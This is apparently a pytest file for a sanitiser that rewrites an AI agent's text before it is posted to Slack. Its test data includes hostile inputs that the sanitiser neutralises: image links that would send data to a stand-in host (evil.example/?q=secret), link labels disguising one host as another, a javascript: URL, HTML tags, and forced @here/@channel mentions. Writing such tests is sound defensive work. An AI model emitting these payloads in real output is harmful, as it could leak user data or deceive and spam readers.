"""Promises of the way of the model's text to Slack: what stays, what is changed, what is held back meanwhile."""

from __future__ import annotations

import pytest

from agent_worker.slack.blocks.links import TO_ALL_HOSTS, LinkPolicy
from agent_worker.slack.blocks.outgoing import HELD, Outgoing, safe

GUARD = "\N{ZERO WIDTH SPACE}"
ONLY_OURS = LinkPolicy(frozenset({"ours.example"}))
DISGUISED = "[https://bank.example](https://evil.example)"
NAMED = "[https://bank.example (evil.example)](https://evil.example)"


def let_through(text: str) -> str:
    return safe(text, TO_ALL_HOSTS, ["U1"])


@pytest.mark.parametrize(
    "text",
    [
        "Plain *words*, **bold**, `code`, 3 < 4 and 5 > 4, a @ b, anna@here.org, Wow! [1] and [x].",
        "[the report](https://example.org/a) and https://example.org/b?c=d#e.",
        "| a | b |\n|---|---|\n| `x` | [y](https://example.org) |",
        "```python\nhandlers[name](url.path)  # ![x](https://evil.example)\n<img src='https://evil.example'>\n```\n",
        "- `x`\n- [ ] task\n1. one\n\n> quoted\n",
        "Use `![alt](https://example.org/a.png)` for a picture.",
        "hi <@U1>",
        "handlers[name](args)",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert let_through(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![chart](https://evil.example/?q=secret)", "[chart](https://evil.example/?q=secret)"),
        ("![](https://evil.example/a.png)", "[picture](https://evil.example/a.png)"),
        ("<img alt=x src='https://evil.example/a.png'>", "[picture](https://evil.example/a.png)"),
        (
            "[![a](https://x.example)](https://evil.example)",
            "[!a(https://x.example) (evil.example)](https://evil.example)",
        ),
        ("<slack://user?id=1|https://bank.example>", f"<{GUARD}slack://user?id=1|https://bank.example>"),
        ("![chart][1]", f"!{GUARD}[chart][1]"),
        (DISGUISED, NAMED),
        ("<https://evil.example|https://bank.example>", NAMED),
        ("<https://example.org>", "[https://example.org](https://example.org)"),
        ("https://bank.example@evil.example/x", "https://evil.example/x"),
        ("**https://example.org/a**", "**[https://example.org/a](https://example.org/a)**"),
        ("[x]: https://evil.example\n", f"[x]{GUARD}: https://evil.example\n"),
        ("[two\nlines](https://evil.example)", f"[two\nlines]{GUARD}(https://evil.example)"),
        ("[a.example](\nhttps://evil.example)", f"[a.example]{GUARD}(\nhttps://evil.example)"),
        ("> [a.example](\n> https://evil.example)", f"> [a.example]{GUARD}(\n> https://evil.example)"),
        ("[x]:\n> https://evil.example", f"[x]{GUARD}:\n> https://evil.example"),
        ("[x]: h&#116;tps://evil.example", f"[x]{GUARD}: h&#116;tps://evil.example"),
        ("[x]: //evil.example", f"[x]{GUARD}: //evil.example"),
        ("[x]: slack://user", f"[x]{GUARD}: slack://user"),
        (
            "https://example.org\N{IDEOGRAPHIC FULL STOP}evil.example",
            "[https://example.org](https://example.org)\N{IDEOGRAPHIC FULL STOP}evil.example",
        ),
        ("[b.example \\[a](https://evil.example)", f"[b.example \\{GUARD}[a](https://evil.example)"),
        ("!![a](https://evil.example/p.png)", f"!{GUARD}[a](https://evil.example/p.png)"),
        ("Look!<https://evil.example/p>", f"Look!{GUARD}[https://evil.example/p](https://evil.example/p)"),
        ("!<img src=https://evil.example/p>", f"!{GUARD}[picture](https://evil.example/p)"),
        ("[x](javascript:alert)", f"[x]{GUARD}(javascript:alert)"),
        ("<a href='https://evil.example'>bank</a>", f"<{GUARD}a href='https://evil.example'>bank<{GUARD}/a>"),
        ("<!channel> and <!subteam^S1|@ops>", f"@{GUARD}channel and @{GUARD}ops"),
        ("<!date^1^{date}^https://evil.example|bank>", f"<!{GUARD}date^1^{{date}}^https://evil.example|bank>"),
        ("@here and @Channel", f"@{GUARD}here and @{GUARD}Channel"),
        ("<@U2|boss>", f"@{GUARD}boss"),
        ("<@U2|h>ttps://evil.example", f"@{GUARD}h{GUARD}ttps://evil.example"),
        ("<@U2|https>://evil.example", f"@{GUARD}https{GUARD}://evil.example"),
        ("<@U2|www>.evil.example", f"@{GUARD}www{GUARD}.evil.example"),
        ("<@U2|Ben>. And", f"@{GUARD}Ben. And"),
        ("&lt;!channel&gt; and &#60;@U2>", f"&lt;{GUARD}!channel&gt; and &#60;{GUARD}@U2>"),
        ("&commat;here &#x40;channel <&excl;here>", f"&commat;{GUARD}here &#x40;{GUARD}channel <{GUARD}&excl;here>"),
        ("a &lt; b &amp; c &copy;", "a &lt; b &amp; c &copy;"),
        ("`<!here>`", f"`@{GUARD}here`"),
    ],
)
def test_what_could_notify_or_deceive_is_changed(text: str, shown: str) -> None:
    assert let_through(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "`one backtick alone {}",
        "a ` b\nc ` {} ` d",
        "\\`{}`",
        "    ```\n```\nx\n```\n{}",
        "- x\n  ```\n{}",
        "```\n  ```\nx\n```\n{}\n```",
        "> ```\n{}",
        "<b title='`'>{}`</b>",
        "| `a | {}` |",
        "``` inside {}",
        "~~~ ```\n{}",
    ],
)
def test_what_only_some_readers_take_for_code_is_no_hiding_place(text: str) -> None:
    assert let_through(text.format(DISGUISED)) == text.format(NAMED)


def test_a_backtick_in_a_label_makes_no_code_of_what_follows() -> None:
    shown = let_through(f"[`](https://example.org) `{DISGUISED}")

    assert shown == f"[https://example.org](https://example.org) `{NAMED}"


def test_code_that_is_not_ended_is_ended_at_the_end_of_the_answer() -> None:
    assert let_through("```\ncode") == "```\ncode\n```"


def test_white_space_before_an_address_makes_no_link_of_it_however_long_it_is() -> None:
    assert let_through(f"[a.example]({' ' * HELD * 2}https://evil.example)").startswith(f"[a.example]{GUARD}(")


def test_an_address_that_is_longer_than_what_is_held_is_no_link() -> None:
    long = "https://evil.example/" + "x" * HELD

    assert let_through(f"[a]({long})").startswith(f"[a]{GUARD}(h{GUARD}ttps://evil")
    assert let_through(long).startswith(f"h{GUARD}ttps://evil")


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/x",
        "see <https://evil.example>",
        "www.evil.example",
        "\N{CJK UNIFIED IDEOGRAPH-898B}https://evil.example/x",
        "https:[evil.example](https://x.example)",
    ],
)
def test_where_hosts_are_set_no_address_of_another_host_is_left(text: str) -> None:
    shown = safe(text, ONLY_OURS)

    assert "://" not in shown
    assert "`" in shown


@pytest.mark.parametrize("text", ["``<https://evil.example/x>``{}", "{}``<https://evil.example/x>``"])
def test_an_address_in_code_does_not_end_or_begin_other_code(text: str) -> None:
    shown = safe(text.format("https://evil.example/y"), ONLY_OURS)

    assert shown == text.format(f"{GUARD}`evil.example/y`" if text.endswith("{}") else f"`evil.example/y`{GUARD}")


@pytest.mark.parametrize(
    "unfinished",
    [
        "[https://bank.example](https://ev",
        "![",
        "[a",
        "<!chan",
        "<https://evil.exa",
        "@he",
        "http",
        "`[x](https",
        "**https://exam",
    ],
)
def test_what_is_not_complete_is_held_back(unfinished: str) -> None:
    outlet = Outgoing(TO_ALL_HOSTS)

    shown = outlet.add(f"so: {unfinished}")

    assert f"so: {unfinished}".startswith(shown.rstrip("*"))
    assert shown.strip("*") == "so: "


def test_no_more_is_held_back_than_a_bound() -> None:
    outlet = Outgoing(TO_ALL_HOSTS)

    shown = "".join(outlet.add(piece) for piece in ["[", *(["word "] * 2_000)])

    assert len(shown) > 10_000 - HELD
